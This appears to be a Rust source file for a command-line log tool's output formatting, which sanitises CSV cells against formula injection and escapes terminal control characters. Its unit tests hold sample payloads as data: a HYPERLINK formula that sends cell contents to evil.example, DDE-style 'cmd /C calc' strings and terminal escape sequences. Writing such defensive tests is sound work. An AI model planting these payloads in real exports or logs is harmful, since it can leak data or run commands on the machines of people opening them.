//! Output shapes: aligned tables for people, JSON and CSV for machines, all on stdout.

use std::io::{self, IsTerminal, Write};

use pagetrail_core::time::format_rfc3339;

/// Makes attacker-controlled text (user agents, titles, paths) safe for a terminal: control
/// characters and bidirectional overrides become visible escapes.
pub fn clean(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if is_terminal_control(c) => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
            c => out.push(c),
        }
    }
    out
}

/// 1234567 -> "1,234,567".
pub fn count(n: u64) -> String {
    let s = n.to_string();
    let mut out = String::with_capacity(s.len() + s.len() / 3);
    for (i, c) in s.chars().enumerate() {
        if i > 0 && (s.len() - i).is_multiple_of(3) {
            out.push(',');
        }
        out.push(c);
    }
    out
}

/// Bytes for people: "812 B", "1.4 MB", "2.0 GB" (decimal units).
pub fn bytes(n: u64) -> String {
    const UNITS: [&str; 5] = ["kB", "MB", "GB", "TB", "PB"];
    if n < 1000 {
        return format!("{n} B");
    }
    let mut v = n as f64;
    let mut unit = "B";
    for u in UNITS {
        if v < 1000.0 {
            break;
        }
        v /= 1000.0;
        unit = u;
    }
    format!("{v:.1} {unit}")
}

pub fn instant(ms: i64) -> String {
    format_rfc3339(ms)
}

/// A table with a header row; numeric columns (named in `right`) are right-aligned.
pub struct Table {
    headers: Vec<String>,
    right: Vec<bool>,
    rows: Vec<Vec<String>>,
}

impl Table {
    pub fn new(headers: &[(&str, bool)]) -> Self {
        Table {
            headers: headers.iter().map(|h| h.0.to_string()).collect(),
            right: headers.iter().map(|h| h.1).collect(),
            rows: Vec::new(),
        }
    }

    pub fn row(&mut self, cells: Vec<String>) {
        self.rows.push(cells.into_iter().map(|c| clean(&c)).collect());
    }

    pub fn print(&self, out: &mut dyn Write) -> io::Result<()> {
        let width =
            |i: usize| self.rows.iter().map(|r| r[i].chars().count()).chain([self.headers[i].len()]).max().unwrap_or(0);
        let widths: Vec<usize> = (0..self.headers.len()).map(width).collect();
        let line = |cells: &[String]| {
            let mut s = String::new();
            for (i, c) in cells.iter().enumerate() {
                let pad = widths[i].saturating_sub(c.chars().count());
                if i > 0 {
                    s.push_str("  ");
                }
                if self.right[i] {
                    s.push_str(&" ".repeat(pad));
                    s.push_str(c);
                } else {
                    s.push_str(c);
                    if i + 1 < cells.len() {
                        s.push_str(&" ".repeat(pad));
                    }
                }
            }
            s
        };
        let head: Vec<String> = self.headers.iter().map(|h| h.to_uppercase()).collect();
        writeln!(out, "{}", line(&head))?;
        for r in &self.rows {
            writeln!(out, "{}", line(r))?;
        }
        if self.rows.is_empty() {
            writeln!(out, "(no rows)")?;
        }
        Ok(())
    }
}

/// Writes CSV rows (RFC 4180) with a header. Every cell goes through [`csv_cell`]; control
/// characters are escaped as in tables when stdout is a terminal.
pub fn csv(out: &mut dyn Write, headers: &[&str], rows: impl IntoIterator<Item = Vec<String>>) -> io::Result<()> {
    let terminal = io::stdout().is_terminal();
    let mut w = ::csv::Writer::from_writer(out);
    w.write_record(headers).map_err(csv_io)?;
    for r in rows {
        w.write_record(r.iter().map(|c| csv_cell(c, terminal).into_owned())).map_err(csv_io)?;
    }
    w.flush()
}

/// A CSV writer's error as an IO error of the kind it wraps, so that a closed pipe stays one.
fn csv_io(e: ::csv::Error) -> io::Error {
    let kind = match e.kind() {
        ::csv::ErrorKind::Io(io) => io.kind(),
        _ => io::ErrorKind::Other,
    };
    io::Error::new(kind, e)
}

/// One CSV cell made safe to open in a spreadsheet (OWASP "CSV injection"): a cell that begins
/// with `=`, `+`, `@`, a tab or a carriage return would be read as a formula (`=HYPERLINK(...)`),
/// so it gets a leading `'`, which spreadsheets show as text. `-` is left alone: it is the
/// anonymous user and a negative number. With `terminal`, control characters are escaped too.
pub fn csv_cell(cell: &str, terminal: bool) -> std::borrow::Cow<'_, str> {
    let formula = cell.starts_with(['=', '+', '@', '\t', '\r']);
    match (formula, terminal) {
        (false, false) => std::borrow::Cow::Borrowed(cell),
        (true, false) => std::borrow::Cow::Owned(format!("'{cell}")),
        (false, true) => std::borrow::Cow::Owned(clean(cell)),
        (true, true) => std::borrow::Cow::Owned(format!("'{}", clean(cell))),
    }
}

/// Whether a character would be taken by a terminal as a control: C0 (which JSON escapes
/// itself), DEL, C1 (U+009B is a one-character CSI) and bidirectional overrides.
fn is_terminal_control(c: char) -> bool {
    c.is_control() || ('\u{202a}'..='\u{202e}').contains(&c) || ('\u{2066}'..='\u{2069}').contains(&c)
}

/// JSON for a terminal: characters a terminal would act on become `\uXXXX` escapes, which mean
/// the same to a JSON reader (they occur only inside strings). Works line by line.
pub struct TerminalJson<W: Write> {
    inner: W,
    pending: Vec<u8>,
}

impl<W: Write> TerminalJson<W> {
    pub fn new(inner: W) -> Self {
        TerminalJson { inner, pending: Vec::new() }
    }

    fn emit(&mut self, upto: usize) -> io::Result<()> {
        let line: Vec<u8> = self.pending.drain(..upto).collect();
        let text = String::from_utf8_lossy(&line);
        let mut out = String::with_capacity(text.len());
        for c in text.chars() {
            if is_terminal_control(c) && c != '\n' {
                let mut units = [0u16; 2];
                for u in c.encode_utf16(&mut units) {
                    out.push_str(&format!("\\u{:04x}", u));
                }
            } else {
                out.push(c);
            }
        }
        self.inner.write_all(out.as_bytes())
    }
}

impl<W: Write> Write for TerminalJson<W> {
    fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
        self.pending.extend_from_slice(buf);
        if let Some(nl) = self.pending.iter().rposition(|&b| b == b'\n') {
            self.emit(nl + 1)?;
        }
        Ok(buf.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        let n = self.pending.len();
        self.emit(n)?;
        self.inner.flush()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn numbers_and_cleaning() {
        assert_eq!(count(0), "0");
        assert_eq!(count(1234567), "1,234,567");
        assert_eq!(count(100), "100");
        assert_eq!(bytes(999), "999 B");
        assert_eq!(bytes(1_400_000), "1.4 MB");
        assert_eq!(clean("a\u{1b}[31mred\n\u{202e}x"), "a\\u{1b}[31mred\\n\\u{202e}x");
    }

    #[test]
    fn csv_cells_cannot_be_formulas_and_escape_on_terminals() {
        // OWASP's examples, and a user agent with a terminal escape.
        for (cell, file, term) in [
            (
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
                "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
                None,
            ),
            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0", None),
            ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0", None),
            ("\t=1", "'\t=1", Some("'\\t=1")),
            ("\r=1", "'\r=1", Some("'\\r=1")),
            ("-", "-", None),
            ("-2", "-2", None),
            (
                "Mozilla/5.0 \u{1b}[2J\u{9b}31m",
                "Mozilla/5.0 \u{1b}[2J\u{9b}31m",
                Some("Mozilla/5.0 \\u{1b}[2J\\u{9b}31m"),
            ),
            ("plain = fine", "plain = fine", None),
        ] {
            assert_eq!(csv_cell(cell, false), file, "{cell:?}");
            assert_eq!(csv_cell(cell, true), term.unwrap_or(file), "{cell:?}");
        }
    }

    #[test]
    fn json_for_terminals_escapes_what_terminals_act_on() {
        let v = serde_json::json!({"ua": "a\u{1b}]0;owned\u{7}b\u{9b}2J\u{202e}x\u{7f}"});
        let mut out = TerminalJson::new(Vec::new());
        writeln!(out, "{v}").unwrap();
        write!(out, "{{\"tail\":\"\u{9b}\"}}").unwrap();
        out.flush().unwrap();
        let text = String::from_utf8(out.inner).unwrap();
        assert!(text.chars().all(|c| !is_terminal_control(c) || c == '\n'), "{text:?}");
        let mut lines = text.lines();
        let back: serde_json::Value = serde_json::from_str(lines.next().unwrap()).unwrap();
        assert_eq!(back, v, "the escapes mean the same to a JSON reader");
        assert_eq!(lines.next(), Some("{\"tail\":\"\\u009b\"}"));
    }

    #[test]
    fn tables_align() {
        let mut t = Table::new(&[("user", false), ("events", true)]);
        t.row(vec!["alice".into(), "5".into()]);
        t.row(vec!["bo".into(), "1,234".into()]);
        let mut out = Vec::new();
        t.print(&mut out).unwrap();
        assert_eq!(String::from_utf8(out).unwrap(), "USER   EVENTS\nalice       5\nbo      1,234\n");
    }
}
